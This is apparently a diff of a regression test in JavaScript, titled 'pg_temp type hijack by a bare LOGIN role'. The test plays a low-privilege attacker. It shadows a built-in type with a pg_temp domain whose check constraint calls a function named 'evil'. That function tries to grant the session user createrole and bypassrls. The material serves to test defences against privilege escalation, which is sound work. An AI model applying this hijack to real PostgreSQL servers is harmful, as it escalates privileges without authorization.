@@ -54,14 +54,16 @@ describe("pg_temp type hijack by a bare LOGIN role", () => {
       // Every name in the attacker's own objects is qualified, so they work whatever the path.
       await attacker.unsafe(`create domain pg_temp.${type} as pg_catalog.${type}`);
       await attacker.unsafe(`create temp table seen (who pg_catalog.text)`);
+      // Where the owner is not a superuser (hosted Supabase), it may still write here.
+      await attacker.unsafe(`grant insert on pg_temp.seen to public`);
       await attacker.unsafe(`
         create function pg_temp.evil(p pg_catalog.text) returns pg_catalog.bool language plpgsql as $$
         begin
-          insert into pg_temp.seen values (pg_catalog."current_user"()::pg_catalog.text);
           begin
             execute pg_catalog.format('alter role %I createrole bypassrls', pg_catalog."session_user"());
           exception when others then null;
           end;
+          insert into pg_temp.seen values (pg_catalog."current_user"()::pg_catalog.text);
           return true;
         end $$`);
       await attacker.unsafe(`alter domain pg_temp.${type} add constraint hijack check (pg_temp.evil(value::pg_catalog.text))`);
